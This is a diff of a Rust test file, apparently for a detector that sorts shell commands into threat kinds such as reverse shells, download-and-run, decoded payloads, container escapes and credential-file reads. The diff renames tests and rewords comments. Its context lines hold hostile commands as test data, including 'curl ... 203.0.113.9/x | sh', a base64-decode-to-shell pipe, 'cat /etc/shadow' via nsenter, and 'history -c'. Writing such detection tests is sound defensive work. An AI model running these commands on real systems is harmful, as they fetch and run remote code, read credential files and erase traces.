@@ -2,7 +2,7 @@ use proptest::prelude::*;
 
 use super::{Commands, Kind};
 
-/// The kinds that a script has, or the words where it is split by ` ;; `.
+/// Returns the kinds of a script, or of the words that ` ;; ` separates.
 fn kinds(line: &str) -> Vec<Kind> {
     let commands = if line.contains(" ;; ") {
         Commands::of_arguments(line.split(" ;; "))
@@ -19,7 +19,7 @@ fn all_have(kind: Kind, lines: &[&str]) {
 }
 
 #[test]
-fn harmless_commands_have_no_sign() {
+fn harmless_commands_have_no_signs() {
     for line in [
         "curl -s http://localhost/healthz",
         "sh ;; -c ;; pg_isready -U postgres -h 127.0.0.1",
@@ -99,7 +99,7 @@ fn harmless_commands_have_no_sign() {
 }
 
 #[test]
-fn reverse_shells() {
+fn finds_reverse_shells() {
     all_have(
         Kind::ReverseShell,
         &[
@@ -131,7 +131,7 @@ fn reverse_shells() {
 }
 
 #[test]
-fn downloads_that_are_run() {
+fn finds_downloads_that_are_run() {
     all_have(
         Kind::DownloadAndRun,
         &[
@@ -166,7 +166,7 @@ fn downloads_that_are_run() {
 }
 
 #[test]
-fn payloads_that_are_decoded() {
+fn finds_decoded_payloads() {
     all_have(
         Kind::DecodedPayload,
         &[
@@ -188,7 +188,7 @@ fn payloads_that_are_decoded() {
 }
 
 #[test]
-fn miners() {
+fn finds_miners() {
     all_have(
         Kind::CryptoMiner,
         &[
@@ -210,7 +210,7 @@ fn miners() {
 }
 
 #[test]
-fn escapes() {
+fn finds_escapes() {
     all_have(
         Kind::ContainerEscape,
         &[
@@ -237,12 +237,12 @@ fn escapes() {
             "curl -sk https://10.0.1.7:10250/run/shop/web/app -d cmd=id",
         ],
     );
-    // What runs on the node is looked at too.
+    // The command that runs on the node is classified too.
     assert!(kinds("nsenter -t 1 -m sh -c 'cat /etc/shadow'").contains(&Kind::SensitiveFile));
 }
 
 #[test]
-fn questions_to_metadata_services() {
+fn finds_requests_to_metadata_services() {
     all_have(
         Kind::InstanceMetadata,
         &[
@@ -269,7 +269,7 @@ fn questions_to_metadata_services() {
 }
 
 #[test]
-fn files_with_credentials() {
+fn finds_files_with_credentials() {
     all_have(
         Kind::ServiceAccountToken,
         &[
@@ -307,7 +307,7 @@ fn files_with_credentials() {
 }
 
 #[test]
-fn tools_and_clients() {
+fn finds_tools_and_clients() {
     all_have(
         Kind::OffensiveTool,
         &[
@@ -340,7 +340,7 @@ fn tools_and_clients() {
 }
 
 #[test]
-fn evasion_and_persistence() {
+fn finds_evasion_and_persistence() {
     all_have(
         Kind::DefenseEvasion,
         &[
@@ -370,7 +370,7 @@ fn evasion_and_persistence() {
 }
 
 #[test]
-fn data_that_is_sent() {
+fn finds_data_that_is_sent() {
     all_have(
         Kind::DataSent,
         &[
@@ -386,7 +386,7 @@ fn data_that_is_sent() {
 }
 
 #[test]
-fn copies() {
+fn finds_copies() {
     all_have(
         Kind::CopyOut,
         &[
@@ -408,7 +408,7 @@ fn copies() {
 }
 
 #[test]
-fn shells() {
+fn finds_shells_that_read_commands() {
     for line in [
         "sh",
         "bash -il",
@@ -431,7 +431,7 @@ fn shells() {
 }
 
 #[test]
-fn words_that_were_joined() {
+fn reads_joined_words_as_one_script() {
     for (line, expected) in [
         ("sh -c curl http://203.0.113.9/x | sh", true),
         (
@@ -451,14 +451,14 @@ fn words_that_were_joined() {
 }
 
 #[test]
-fn the_most_telling_sign_comes_first_with_its_text() {
+fn most_suspicious_sign_comes_first() {
     let signs = Commands::of_script("id; curl -s http://203.0.113.9/x | sh; history -c").signs();
     let texts: Vec<&str> = signs.iter().map(|sign| sign.text.as_str()).collect();
     assert_eq!(texts, ["curl -s http://203.0.113.9/x | sh", "history -c"]);
 }
 
 #[test]
-fn the_end_of_a_long_script_is_read() {
+fn reads_the_end_of_a_long_script() {
     let script = format!("echo {} | base64 -d | sh", "QUJD".repeat(30_000));
     let signs = Commands::of_arguments(["sh", "-c", &script]).signs();
     assert_eq!(
@@ -468,9 +468,9 @@ fn the_end_of_a_long_script_is_read() {
 }
 
 proptest! {
-    /// Whatever it is given, it answers, and within what it promises.
+    /// Every text is parsed, and signs stay within their length.
     #[test]
-    fn every_text_is_read(text in "(?s)[a-z$()'\"`\\\\|&;<>{}=/ \n\\-]{0,200}|.{0,100}") {
+    fn parses_every_text(text in "(?s)[a-z$()'\"`\\\\|&;<>{}=/ \n\\-]{0,200}|.{0,100}") {
         for commands in [
             Commands::of_script(&text),
             Commands::of_line(&text),
@@ -483,7 +483,7 @@ proptest! {
         }
     }
 
-    /// Quotes that a shell takes away hide nothing, wherever they stand inside a word.
+    /// Quotes inside a word hide nothing.
     #[test]
     fn quotes_hide_nothing(places in prop::collection::vec(1_usize..40, 0..8), quotes in "''|\"\"") {
         let plain = "curl -s http://203.0.113.9/x | sh; cat /etc/shadow";
@@ -501,7 +501,7 @@ proptest! {
     }
 }
 
-/// What is deep or long ends all the same, and quickly.
+/// Deeply nested and long texts end quickly.
 #[test]
 fn hostile_text_is_bounded() {
     let deep = "$(".repeat(20_000);
